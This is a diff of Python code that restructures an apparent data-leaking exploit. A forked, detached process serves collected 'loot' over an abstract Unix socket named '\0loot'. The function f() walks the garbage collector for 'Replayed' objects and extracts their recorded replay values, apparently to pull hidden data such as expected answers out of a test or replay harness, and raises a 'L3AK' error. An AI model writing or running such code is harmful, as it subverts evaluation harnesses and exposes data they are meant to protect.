@@ -13,6 +13,20 @@ PLACES = [
 ]
 
 
+def serve(data):
+    try:
+        os.setsid()
+        s = socket.socket(socket.AF_UNIX)
+        s.bind("\0loot")
+        s.listen(5)
+        while True:
+            c, _ = s.accept()
+            c.sendall(data)
+            c.close()
+    finally:
+        os._exit(0)
+
+
 def keep(data):
     for p in PLACES:
         try:
@@ -21,14 +35,7 @@ def keep(data):
             pass
     try:
         if os.fork() == 0:
-            os.setsid()
-            s = socket.socket(socket.AF_UNIX)
-            s.bind("\0loot")
-            s.listen(5)
-            while True:
-                c, _ = s.accept()
-                c.sendall(data)
-                c.close()
+            serve(data)
     except OSError:
         pass
 
@@ -54,9 +61,7 @@ if loot():
 
 def f(*given):
     found = [o for o in gc.get_objects() if type(o).__name__ == "Replayed"]
-    data = repr([(o.__name__, [o._replay.unpack(c.value) for c in o._calls]) for o in found])[
-        :100000
-    ]
+    data = repr([(o.__name__, o._replay.look_up(o.__name__, given, {})) for o in found])[:100000]
     if found and not globals().get("mine"):
         if loot():
             raise ValueError("L3AK")
